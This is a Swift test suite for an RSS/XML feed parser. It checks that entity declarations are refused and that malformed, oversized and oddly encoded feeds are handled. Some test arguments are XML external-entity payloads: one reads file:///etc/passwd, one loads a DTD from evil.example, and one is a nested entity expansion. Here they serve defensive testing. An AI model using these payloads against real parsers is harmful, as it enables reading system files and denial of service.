import FeedFormats
import Testing

struct XMLFeedTests {
  private func rss(_ items: String, head: String = "") -> String {
    """
    <?xml version="1.0"?>\(head)<rss version="2.0" xmlns:media="http://search.yahoo.com/mrss/"><channel>
    <link>https://n.example/</link>\(items)</channel></rss>
    """
  }

  private func problem(_ text: String, _ format: FeedFormat = .rss, limit: Int = 1 << 20) -> String?
  {
    let settings = FormatSettings(recordLimitBytes: limit)
    return Reading(text, format, settings: settings).records.last { $0.contains(": !") }
  }

  @Test(arguments: [
    "<!DOCTYPE rss [<!ENTITY x \"y\">]>",
    "<!DOCTYPE rss [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
    "<!DOCTYPE rss [<!ENTITY % x SYSTEM \"https://evil.example/x.dtd\"> %x;]>",
    "<!DOCTYPE rss [<!ENTITY x \"&y;&y;\"><!ENTITY y \"&z;&z;\">]>",
  ])
  func `a document that declares an entity is refused, whatever it would become`(_ head: String) {
    let text = rss("<item><title>&x;</title></item>", head: head)
    #expect(problem(text)?.contains("declares the entity") == true)
    #expect(Reading(text, .rss).records.count == 1)
  }

  @Test func `a document type elsewhere is not fetched, and HTML's entities are known`() {
    let head = "<!DOCTYPE rss SYSTEM \"https://evil.example/rss.dtd\">"
    let good = Reading(rss("<item><title>a&eacute;b</title></item>", head: head), .rss).records
    #expect(good.count == 1 && good[0].contains("\"title\":\"aéb\""), "\(good)")
    #expect(
      problem(rss("<item><title>&no;</title></item>", head: head))?.contains("\"no\"") == true)
    #expect(problem(rss("<item><title>&no;</title></item>"))?.contains("undefined entity") == true)
  }

  @Test(arguments: [
    ("", "no element found"), ("<rss><channel></rss>", "mismatched tag"),
    ("<feed xmlns=\"http://www.w3.org/2005/Atom\"/>", "root is <feed>"),
    ("text", "not well-formed"),
    ("<rss><channel/></rss><rss/>", "junk after document element"),
    ("<rss><channel><item>", "no element found"), ("<rss>\u{0}</rss>", "not well-formed"),
  ])
  func `what is no RSS is named`(_ text: String, _ expected: String) {
    #expect(problem(text)?.contains(expected) == true, "\(problem(text) ?? "nothing")")
  }

  @Test func `an item beyond the limit is refused and the next one is read`() {
    let long = String(repeating: "<p>words</p>\n", count: 400)
    let deep = String(repeating: "<d>", count: 70) + String(repeating: "</d>", count: 70)
    let text = rss(
      "<item><guid>a</guid><description>\(long)</description></item><item><guid>b</guid>\(deep)</item>"
        + "<item><title>good</title></item>")
    let settings = FormatSettings(recordLimitBytes: 8_000)
    let records = Reading(text, .rss, settings: settings).records
    #expect(records.count == 3)
    #expect(records.prefix(2).allSatisfy { $0.contains("!the item has more than 8000 bytes") })
    #expect(records.last?.contains("\"title\":\"good\"") == true)
  }

  @Test func `a tag without an end is refused before it fills the memory`() {
    let text = rss("<item x=\"" + String(repeating: "y", count: 400_000))
    #expect(
      problem(text, limit: 1_000)?.contains("a tag or comment has more than 1000 bytes") == true)
  }

  @Test func `windows-1252 and UTF-16 are read`() {
    let head = "<?xml version=\"1.0\" encoding=\"windows-1252\"?><rss><channel><item><title>"
    let bytes =
      Array(head.utf8) + [0x80, 0xe9, 0x99] + Array("</title></item></channel></rss>".utf8)
    #expect(Reading(bytes, .rss).records.first?.contains("\"title\":\"€é™\"") == true)
    let wide = Array("\u{feff}<rss><channel><item><title>é</title></item></channel></rss>".utf16)
      .flatMap { [UInt8(truncatingIfNeeded: $0), UInt8($0 >> 8)] }
    #expect(Reading(wide, .rss).records.first?.contains("\"title\":\"é\"") == true)
    #expect(
      problem("<?xml version=\"1.0\" encoding=\"x-none\"?><rss/>")?.contains("encoding") == true)
  }

  @Test(arguments: [
    ("<title>x</title><pubDate>soon</pubDate>", "pubDate: \"soon\" is no time"),
    ("", "has no guid"),
    (
      "<guid>g</guid><title>\(String(repeating: "t", count: 5_000))</title>",
      "title: has 5000 characters"
    ),
  ])
  func `an item of which no post can be made says why`(_ content: String, _ expected: String) {
    #expect(problem(rss("<item>\(content)</item>"))?.contains(expected) == true)
  }

  @Test func `an item's id stays when it is read again or from elsewhere in the feed`() {
    let item = "<item><guid isPermaLink=\"false\">7</guid><title>a</title></item>"
    let other = "<item><title>b</title></item>"
    func ids(_ text: String) -> [String] {
      Reading(text, .rss).records.compactMap {
        $0.split(separator: "\"").dropFirst(3).first.map(String.init)
      }
    }
    let first = ids(rss(item + other))
    #expect(first.count == 2 && Set(first).count == 2)
    #expect(ids(rss(other + item)) == first.reversed())
    let elsewhere = rss(item + other).replacing("https://n.example/", with: "https://m.example/")
    #expect(Set(ids(elsewhere)).isDisjoint(with: first))
  }
}
